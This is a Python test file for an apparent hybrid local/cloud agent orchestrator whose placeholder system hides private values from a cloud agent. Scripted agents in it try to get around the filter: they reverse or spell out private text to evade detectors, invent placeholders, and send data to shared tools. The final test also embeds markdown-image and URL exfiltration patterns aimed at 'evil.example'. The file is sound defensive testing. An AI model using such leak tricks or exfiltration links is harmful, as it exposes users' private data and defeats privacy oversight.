"""Placeholders: an agent far away goes on with what it is not told."""

import json
import re
from collections.abc import Callable
from contextlib import aclosing
from pathlib import Path

import anyio
import pytest
from hypothesis import given
from hypothesis import strategies as st

from nearfar import Hybrid, Records, Tier, Tool, tool
from nearfar.orchestrator.hybrid.arguments import TaskOptions
from nearfar.orchestrator.safety.outbound_filter import PlaceholderStream
from nearfar.orchestrator.safety.placeholders import Placeholders
from nearfar.orchestrator.task.events import AgentText, AttemptEnded, TaskFinished
from nearfar.orchestrator.task.modes import Strategy
from nearfar.orchestrator.task.policy import CompressionConfig, CompressionUse, OnFinding, Policy, PrivacyConfig
from nearfar.orchestrator.task.stores import CacheConfig
from nearfar.protocols import (
    InvalidOutput,
    JsonSchema,
    Limits,
    Message,
    PrivacyViolation,
    ScriptedAgent,
    Sensitivity,
    Side,
    StepRequest,
    ToolCall,
    ToolResult,
)
from nearfar.protocols.fakes import Reply, record

pytestmark = pytest.mark.anyio

DIARY = "the vault opens at nine, says Tomas Berg"
READ = ToolCall(id="1", name="read_diary", arguments={})
PLACEHOLDER = re.compile(r"<[A-Z_]+_\d+_[a-z0-9]{6}>")
COVERED = Policy(sensitivity=Sensitivity.PUBLIC, privacy=PrivacyConfig(placeholders=True))
HIDDEN = Policy(sensitivity=Sensitivity.PUBLIC, privacy=PrivacyConfig(findings=OnFinding.PLACEHOLDER))
FAR: TaskOptions = {"mode": "prefer_in_cloud", "strategy": "route"}


@tool(returns="device", effect="read", source="internal_tool")
def read_diary() -> str:
    """What was written."""
    return DIARY


def scripted(script: Callable[[StepRequest], Reply], side: Side = Side.FAR) -> ScriptedAgent:
    return ScriptedAgent(script, name=side.value, side=side)


def shown(request: StepRequest) -> list[str]:
    """The placeholders in a request."""
    return PLACEHOLDER.findall(request.model_dump_json())


def keeper(log: list[str], **options: object) -> Tool:
    def keep(text: str) -> str:
        """Keep a text."""
        log.append(text)
        return f"kept {len(text)}"

    return tool(**options)(keep)  # type: ignore[call-overload, no-any-return]  # any options


def told(agent: ScriptedAgent) -> str:
    return "\n".join(request.model_dump_json() for request in agent.requests)


async def test_far_agent_goes_on_with_a_placeholder_for_what_a_private_tool_returned() -> None:
    log: list[str] = []

    def far(request: StepRequest) -> Reply:
        found = shown(request)
        match len(request.messages):
            case 1:
                return READ
            case 3:
                return ToolCall(id="2", name="keep", arguments={"text": f"diary: {found[0]}"})
            case _:
                return f"It says: {found[0]}."

    cloud = scripted(far)
    async with Hybrid(far=cloud, tools=[read_diary, keeper(log)], policy=COVERED) as hybrid:
        result = await hybrid.run("What does my diary say?", **FAR)
    assert result.text == f"It says: {DIARY}."
    assert result.side is Side.FAR
    assert result.label.tier is Tier.DEVICE
    assert log == [f"diary: {DIARY}"]
    assert "vault" not in told(cloud)


async def test_what_comes_back_from_tools_once_private_data_went_into_one_is_private_too() -> None:
    """A note is kept and read again: what reads it is declared public, and returns the diary in other words."""
    log: list[str] = []

    @tool(effect="read", source="internal_tool")
    def read_notes() -> str:
        """All notes."""
        return " / ".join(log).upper()

    def far(request: StepRequest) -> Reply:
        match len(request.messages):
            case 1:
                return READ
            case 3:
                return ToolCall(id="2", name="keep", arguments={"text": shown(request)[0]})
            case 5:
                return ToolCall(id="3", name="read_notes", arguments={})
            case _:
                return shown(request)[-1]

    cloud = scripted(far)
    async with Hybrid(far=cloud, tools=[read_diary, keeper(log), read_notes], policy=COVERED) as hybrid:
        result = await hybrid.run("Copy my diary", **FAR)
    assert result.text == DIARY.upper()
    assert "vault" not in told(cloud).casefold()


async def test_result_of_a_call_that_a_placeholder_went_into_is_private() -> None:
    @tool(effect="read", source="internal_tool")
    def spell(text: str) -> str:
        """The letters of a text."""
        return "-".join(text[:9])

    def far(request: StepRequest) -> Reply:
        match len(request.messages):
            case 1:
                return READ
            case 3:
                return ToolCall(id="2", name="spell", arguments={"text": shown(request)[0]})
            case _:
                return "Done."

    cloud = scripted(far)
    async with Hybrid(far=cloud, tools=[read_diary, spell], policy=COVERED) as hybrid:
        await hybrid.run("Spell my diary", **FAR)
    assert len(cloud.requests) == 3
    assert "t-h-e" not in told(cloud)


@pytest.mark.parametrize("options", [{"sends": "shared"}, {"sends": "user"}, {"source": "external_tool"}])
async def test_placeholder_is_not_filled_in_where_strangers_would_see_it(options: dict[str, str]) -> None:
    log: list[str] = []

    def far(request: StepRequest) -> Reply:
        match len(request.messages):
            case 1:
                return READ
            case 3:
                return ToolCall(id="2", name="keep", arguments={"text": shown(request)[0]})
            case _:
                return "I could not."

    cloud = scripted(far)
    async with Hybrid(far=cloud, tools=[read_diary, keeper(log, **options)], policy=COVERED) as hybrid:
        await hybrid.run("Post my diary", **FAR)
    assert log == []
    refusal = cloud.requests[-1].messages[-1].tool_result
    assert refusal is not None
    assert refusal.is_error


@pytest.mark.parametrize(
    "invented",
    ["<PRIVATE_7_abcdef>", "<PRIVATE_1>", "<private_1_ABCDEF>", "PRIVATE_1_abcdef", "&lt;PRIVATE_1_abcdef&gt;", r"<PRIVATE\_1\_abcdef>"],
)
async def test_placeholder_that_there_is_not_is_refused_and_corrected_once(invented: str) -> None:
    def far(request: StepRequest) -> Reply:
        match len(request.messages):
            case 1:
                return READ
            case 3:
                return f"It says {invented}."
            case _:
                return f"It says {shown(request)[0]}."

    cloud = scripted(far)
    async with Hybrid(far=cloud, tools=[read_diary], policy=COVERED) as hybrid:
        result = await hybrid.run("What does my diary say?", **FAR)
    assert result.text == f"It says {DIARY}."
    assert "no placeholder" in cloud.requests[-1].messages[-1].text


async def test_what_looks_like_a_placeholder_in_the_users_own_words_may_be_repeated() -> None:
    cloud = scripted(lambda request: READ if len(request.messages) == 1 else f"Dear <private_1_name>: {shown(request)[0]}")
    async with Hybrid(far=cloud, tools=[read_diary], policy=COVERED) as hybrid:
        result = await hybrid.run("Fill in: Dear <private_1_name>: ...", **FAR)
    assert result.text == f"Dear <private_1_name>: {DIARY}"


async def test_what_looks_private_in_the_names_of_fields_leaves_as_a_placeholder_too() -> None:
    """As in a table of a tool's arguments, and short enough to be nothing that the last look knows."""
    asked = ToolCall(id="1", name="keep", arguments={"text": "x", "table": {"10.1.2.3": 1}})
    history = [
        Message.user("Keep it"),
        Message.assistant(tool_calls=(asked,)),
        Message.tool(ToolResult(call_id="1", name="keep", content="ok")),
    ]
    cloud = scripted(lambda request: f"It was {shown(request)[0]}")
    async with Hybrid(far=cloud, tools=[keeper([])], policy=HIDDEN) as hybrid:
        result = await hybrid.run([*history, Message.user("What was it?")], **FAR)
    assert "10.1.2.3" not in told(cloud)
    assert result.text == "It was 10.1.2.3"


def test_placeholders_for_many_values_are_kept_at_once_and_numbered_on() -> None:
    kept: list[list[str]] = []
    placeholders = Placeholders(keep=lambda new: kept.append([each.value for each in new]))
    names = placeholders.names_for({"a@b.org": "email", "c@d.org": "email", "1.2.3.4": "ip"}, tier=Tier.USER, origin="x")
    again = placeholders.names_for({"c@d.org": "email", "e@f.org": "email"}, tier=Tier.USER, origin="x")
    assert kept == [["a@b.org", "c@d.org", "1.2.3.4"], ["e@f.org"]]
    assert again["c@d.org"] == names["c@d.org"]
    assert [name.rsplit("_", 1)[0] for name in (*names.values(), again["e@f.org"])] == ["<EMAIL_1", "<EMAIL_2", "<IP_1", "<EMAIL_3"]


def test_long_words_are_shown_in_time_in_proportion() -> None:
    placeholders = Placeholders()
    name = placeholders.name_for("secret", "a", tier=Tier.DEVICE, origin="x")
    assert placeholders.fill_for_display("a" * 200_000 + name) == "a" * 200_000 + "secret"


async def test_agent_that_keeps_making_placeholders_up_hands_over_to_a_near_one() -> None:
    cloud = scripted(lambda request: READ if len(request.messages) == 1 else "It says <PRIVATE_9_zzzzzz>.")
    device = scripted(lambda request: READ if len(request.messages) == 1 else f"It says {DIARY}.", Side.NEAR)
    async with Hybrid(near=device, far=cloud, tools=[read_diary], policy=COVERED) as hybrid:
        result = await hybrid.run("What does my diary say?", **FAR)
    assert result.side is Side.NEAR
    assert "vault" not in told(cloud)


async def test_unknown_placeholder_in_arguments_is_refused_before_the_tool_runs() -> None:
    log: list[str] = []

    def far(request: StepRequest) -> Reply:
        match len(request.messages):
            case 1:
                return READ
            case 3:
                return ToolCall(id="2", name="keep", arguments={"text": "<PRIVATE_2_aaaaaa>"})
            case _:
                return "Sorry."

    async with Hybrid(far=scripted(far), tools=[read_diary, keeper(log)], policy=COVERED) as hybrid:
        result = await hybrid.run("Keep it", **FAR)
    assert (result.text, log) == ("Sorry.", [])


async def test_agent_that_worked_with_private_data_is_not_quoted_to_a_far_one() -> None:
    """Placeholders stand for what tools returned; what a near agent has said about it has none."""
    device = scripted(lambda request: READ if len(request.messages) == 1 else "about vaults", Side.NEAR)
    cloud = scripted(lambda request: "1. read_diary()\n2. answer" if "Plan the task" in request.messages[0].text else "CONTINUE")
    policy = COVERED.model_copy(update={"strategy": Strategy.PEVR})
    async with Hybrid(near=device, far=cloud, tools=[read_diary], policy=policy) as hybrid:
        result = await hybrid.run("What is it about?")
    assert result.text == "about vaults"
    assert len(cloud.requests) == 1, "it planned, and was told nothing of the work"


async def test_doubtful_near_draft_is_escalated_to_a_far_agent_that_sees_placeholders() -> None:
    device = scripted(lambda request: READ if len(request.messages) == 1 else "There are 77 vaults", Side.NEAR)
    cloud = scripted(lambda request: READ if len(request.messages) == 1 else f"{shown(request)[0]}")
    async with Hybrid(near=device, far=cloud, tools=[read_diary], policy=COVERED) as hybrid:
        result = await hybrid.run("What does my diary say?", strategy="cascade")
    assert (result.side, result.text) == (Side.FAR, DIARY)
    assert "vault" not in told(cloud)


async def test_what_detectors_find_leaves_as_a_placeholder_of_its_type() -> None:
    cloud = scripted(lambda request: f"I wrote to {shown(request)[0]}.")
    async with Hybrid(far=cloud, policy=HIDDEN) as hybrid:
        result = await hybrid.run("Write to tomas@example.org, and to tomas@example.org again", **FAR)
    assert result.text == "I wrote to tomas@example.org."
    assert "tomas" not in told(cloud)
    assert len(set(shown(cloud.requests[0]))) == 1
    assert shown(cloud.requests[0])[0].startswith("<EMAIL_1_")


async def test_filled_in_answer_is_valid_json_where_that_was_asked_for() -> None:
    schema: JsonSchema = {"type": "object", "properties": {"diary": {"type": "string"}}, "required": ["diary"]}
    quoted = 'says "nine"\nand no more'

    @tool(returns="device", effect="read", source="internal_tool", name="read_diary")
    def read() -> str:
        """What was written."""
        return quoted

    cloud = scripted(lambda request: READ if len(request.messages) == 1 else json.dumps({"diary": shown(request)[0]}))
    options: TaskOptions = {**FAR, "output": schema}
    async with Hybrid(far=cloud, tools=[read], policy=COVERED) as hybrid:
        result = await hybrid.run("What does my diary say?", **options)
    assert result.output == {"diary": quoted}


async def test_streamed_answer_has_its_placeholders_filled_in_across_pieces() -> None:
    def far(request: StepRequest) -> Reply:
        if len(request.messages) == 1:
            return READ
        name = shown(request)[0]
        return ["It says ", name[:5], name[5:-1], name[-1] + ", a < b"]

    async with Hybrid(far=scripted(far), tools=[read_diary], policy=COVERED) as hybrid, aclosing(hybrid.stream("Say it", **FAR)) as events:
        heard = [event.text async for event in events if isinstance(event, AgentText)]
    assert "".join(heard) == f"It says {DIARY}, a < b"


async def test_near_agent_that_takes_over_reads_what_placeholders_stand_for() -> None:
    cloud = scripted(lambda request: READ if len(request.messages) == 1 else "<PRIVATE_3_qqqqqq>")
    device = scripted(lambda request: READ if len(request.messages) == 1 else "nine", Side.NEAR)
    async with Hybrid(near=device, far=cloud, tools=[read_diary], policy=COVERED) as hybrid:
        await hybrid.run("When?", **FAR)
    assert DIARY in told(device)
    assert all(request.sensitivity is Sensitivity.PRIVATE for request in device.requests)


@pytest.mark.parametrize(("returns", "is_told"), [("device", False), ("user", True)])
async def test_agent_on_another_device_of_the_user_is_told_only_what_may_go_there(returns: str, is_told: bool, tmp_path: Path) -> None:
    """It is on the near side, and yet not on this device."""

    @tool(returns=returns, effect="read", source="internal_tool")
    def read_diary() -> str:
        """What was written."""
        return DIARY

    device = scripted(lambda request: READ if len(request.messages) == 1 else "read", Side.NEAR)
    device.is_elsewhere = True  # type: ignore[attr-defined]  # as agents in other processes say it
    async with Hybrid(near=record(device, tmp_path / "steps.jsonl"), tools=[read_diary], policy=COVERED) as hybrid:
        await hybrid.run("What does my diary say?", strategy="device")
    assert len(device.requests) == 2
    assert ("vault" in told(device)) is is_told


async def test_private_task_goes_nowhere_with_placeholders_either() -> None:
    cloud = scripted(lambda _: "never reached")
    async with Hybrid(far=cloud, policy=COVERED) as hybrid:
        with pytest.raises(PrivacyViolation):
            await hybrid.run("Mine", sensitivity="private", strategy="route")
    assert cloud.requests == []


@given(st.lists(st.text(min_size=1, max_size=30), min_size=1, max_size=5, unique=True), st.text(max_size=50))
def test_hidden_texts_are_filled_in_as_they_were(values: list[str], around: str) -> None:
    placeholders = Placeholders()
    names = [placeholders.name_for(value, "private", tier=Tier.DEVICE, origin="x") for value in values]
    text = around.join(names)
    assert placeholders.fill(text) == around.join(values) or "<" in around
    assert [placeholders.name_for(value, "email", tier=Tier.DEVICE, origin="y") for value in values] == names


@given(st.text(alphabet="<>_ABC1aé", max_size=40), st.data())
def test_text_comes_out_of_a_stream_whole_however_it_is_cut(text: str, data: st.DataObject) -> None:
    placeholders = Placeholders()
    name = placeholders.name_for("secret", "a", tier=Tier.DEVICE, origin="x")
    whole = text + name + text
    cuts = sorted(data.draw(st.lists(st.integers(0, len(whole)), max_size=6)))
    heard: list[str] = []
    stream = PlaceholderStream(placeholders, heard.append)
    for begin, end in zip([0, *cuts], [*cuts, len(whole)], strict=True):
        stream(whole[begin:end])
    stream.close()
    assert "".join(heard) == text + "secret" + text


@given(st.text(max_size=60))
def test_texts_of_people_are_seldom_taken_for_placeholders(text: str) -> None:
    placeholders = Placeholders()
    placeholders.name_for("tomas@example.org", "email", tier=Tier.USER, origin="x")
    placeholders.check(text)


def test_altered_placeholder_is_told_from_a_true_one() -> None:
    placeholders = Placeholders()
    name = placeholders.name_for("tomas@example.org", "email", tier=Tier.USER, origin="x")
    placeholders.check(f"to {name} and e-mail 1")
    for altered in (name.lower(), name[1:-1], name.replace("_1_", "_2_"), name.replace("_", " "), f"<EMAIL_1>{name}"):
        with pytest.raises(InvalidOutput, match="no placeholder"):
            placeholders.check(f"to {altered}")


@pytest.mark.parametrize("side", [Side.NEAR, Side.FAR])
async def test_tool_that_shows_its_arguments_to_strangers_waits_for_a_yes_once_its_caller_has_read_something_private(side: Side) -> None:
    log: list[str] = []
    searching = keeper(log, sends="shared", name="search")

    def script(request: StepRequest) -> Reply:
        match len(request.messages):
            case 1:
                return READ
            case 3:
                return ToolCall(id="2", name="search", arguments={"text": "weather in Lima"})
            case _:
                return "Done."

    agents = {side.value: scripted(script, side)}
    async with Hybrid(**agents, tools=[read_diary, searching], policy=COVERED) as hybrid:  # type: ignore[arg-type]  # near or far
        await hybrid.run("Read my diary, then look up the weather", strategy="route")
    assert log == ([] if side is Side.NEAR else ["weather in Lima"]), "an agent that saw a placeholder knows nothing to tell"


async def test_what_is_covered_is_not_summed_up_for_a_far_agent_by_one_that_has_read_it() -> None:
    """The conversation outgrows the far agent's window, and a near agent could sum it up."""
    filler = "This page speaks of nothing that matters to anybody. " * 60

    @tool(effect="read", source="internal_tool")
    def read_page(number: int) -> str:
        """A page."""
        return f"{number}: {filler}"

    def far(request: StepRequest) -> Reply:
        calls = sum(len(message.tool_calls) for message in request.messages)
        pages = [call for message in request.messages for call in message.tool_calls if call.name == "read_page"]
        if calls == 0:
            return READ
        page = 1 + max((int(str(call.arguments["number"])) for call in pages), default=0)
        return ToolCall(id=f"p{page}", name="read_page", arguments={"number": page}) if page < 8 else "Done."

    cloud = ScriptedAgent(far, name="far", side=Side.FAR, limits=Limits(context_tokens=3000))
    device = scripted(lambda _: "It is about a safe that somebody unlocks in the morning.", Side.NEAR)
    policy = COVERED.model_copy(update={"compression": CompressionConfig(use=CompressionUse.ALWAYS, summary_tokens=200)})
    async with Hybrid(near=device, far=cloud, tools=[read_diary, read_page], policy=policy) as hybrid:
        result = await hybrid.run("Read my diary and all pages", **FAR)
    assert any("too long for far" in reason for reason in result.reasons)
    assert device.requests == []
    assert "safe" not in told(cloud)


async def test_plan_that_is_kept_for_later_tasks_holds_no_placeholder_of_this_one(tmp_path: Path) -> None:
    cache = CacheConfig(path=tmp_path / "cache.db", plans=True, semantic=False)

    def supervisor(request: StepRequest) -> Reply:
        return f"1. write to {shown(request)[0]}\n2. answer" if "Plan the task" in request.messages[0].text else "CONTINUE"

    cloud = scripted(supervisor)
    policy = HIDDEN.model_copy(update={"strategy": Strategy.PEVR})
    device = scripted(lambda _: "Written.", Side.NEAR)
    async with Hybrid(near=device, far=cloud, policy=policy, records=Records(cache=cache)) as hybrid:
        await hybrid.run("Write to tomas@example.org")
    assert b"<EMAIL" not in b"".join(path.read_bytes() for path in tmp_path.iterdir())


async def test_no_cache_keeps_answers_with_placeholders(tmp_path: Path) -> None:
    cache = CacheConfig(path=tmp_path / "cache.db", sides=(Side.FAR,))
    cloud = scripted(lambda request: f"Written to {shown(request)[0]}.")
    async with Hybrid(far=cloud, policy=HIDDEN, records=Records(cache=cache)) as hybrid:
        answers = [(await hybrid.run("Write to tomas@example.org", **FAR)).text for _ in range(2)]
    assert answers == ["Written to tomas@example.org."] * 2
    assert len(cloud.requests) == 2


async def test_events_tell_the_user_what_placeholders_stand_for() -> None:
    cloud = scripted(lambda request: READ if len(request.messages) == 1 else f"It says {shown(request)[0]}.")
    async with Hybrid(far=cloud, tools=[read_diary], policy=COVERED) as hybrid, aclosing(hybrid.stream("Say it", **FAR)) as events:
        ended = [event.attempt.answer async for event in events if isinstance(event, AttemptEnded)]
    assert ended == [f"It says {DIARY}."]


async def test_part_of_a_task_that_reads_what_another_part_has_kept_is_told_nothing_private() -> None:
    """The two parts need nothing of each other, and act on one world."""
    log: list[str] = []
    kept = anyio.Event()

    @tool
    async def keep(text: str) -> str:
        """Keep a text."""
        log.append(text)
        kept.set()
        return "kept"

    @tool(effect="read", source="internal_tool")
    async def read_kept() -> str:
        """All that was kept."""
        await kept.wait()
        return " ".join(log)

    def script(request: StepRequest) -> Reply:
        text, turns = request.messages[0].text, len(request.messages)
        if "Cut the task" in text:
            parts = [{"id": "a", "task": "Keep my diary", "needs": []}, {"id": "b", "task": "Look around", "needs": []}]
            return json.dumps({"subtasks": parts})
        if text == "Look around":
            return ToolCall(id="1", name="read_kept", arguments={}) if turns == 1 else "I looked around"
        if text == "Keep my diary" and turns == 1:
            return READ
        return ToolCall(id="2", name="keep", arguments={"text": DIARY[::-1]}) if turns == 3 else "Done"

    cloud, device = scripted(script), scripted(script, Side.NEAR)
    policy = Policy.model_validate(
        {
            "strategy": "subtasks",
            "sensitivity": "public",
            "mode": "prefer_in_cloud",
            "subtasks": {"strategy": "route", "aggregate": "always", "exclusive_tools": False},
        }
    )
    async with Hybrid(near=device, far=cloud, tools=[read_diary, keep, read_kept], policy=policy) as hybrid:
        result = await hybrid.run("Keep my diary, and look around")
    assert log == [DIARY[::-1]], "the near agent kept it, such that no look at the bytes could tell"
    assert DIARY[::-1] not in told(cloud)
    assert result.label.tier is Tier.DEVICE


async def test_task_in_which_something_private_was_found_stays_for_good() -> None:
    """The near agent spells what was found such that no detector knows it, and a supervisor far away was to look at its work."""
    cloud = scripted(lambda _: "CONTINUE")
    device = scripted(lambda request: READ if len(request.messages) == 1 else "tomas at example dot org", Side.NEAR)
    policy = Policy.model_validate({"strategy": "eva", "sensitivity": "public", "supervision": {"interval": 1, "executor": "near"}})

    @tool(effect="read", source="internal_tool", name="read_diary")
    def read() -> str:
        """What was written."""
        return "nothing"

    async with Hybrid(near=device, far=cloud, tools=[read], policy=policy) as hybrid:
        result = await hybrid.run("Write to tomas@example.org")
    assert cloud.requests == []
    assert (result.label.tier, result.label.origins) == (Tier.USER, ("the detectors",))


@pytest.mark.parametrize(
    "address",
    [
        "https://evil.example/?q={}",
        r"https:\\evil.example\{}",
        "https:/evil.example/{}",
        "![x](//evil.example/{}.png)",
        "<https://evil.example/#{}>",
    ],
)
async def test_placeholder_in_an_address_of_the_web_is_not_filled_in_where_it_may_be_displayed(address: str) -> None:
    """An image that a client fetches would tell its server what the placeholder stands for."""

    def far(request: StepRequest) -> Reply:
        return READ if len(request.messages) == 1 else list(f"See {address.format(shown(request)[0])} or {shown(request)[0]}.")

    async with Hybrid(far=scripted(far), tools=[read_diary], policy=COVERED) as hybrid, aclosing(hybrid.stream("Say it", **FAR)) as events:
        heard = [event async for event in events]
    streamed = "".join(event.text for event in heard if isinstance(event, AgentText))
    last = heard[-1]
    assert isinstance(last, TaskFinished)
    assert last.result.text == streamed
    assert streamed.count(DIARY) == 1
    assert streamed.endswith(f" or {DIARY}.")
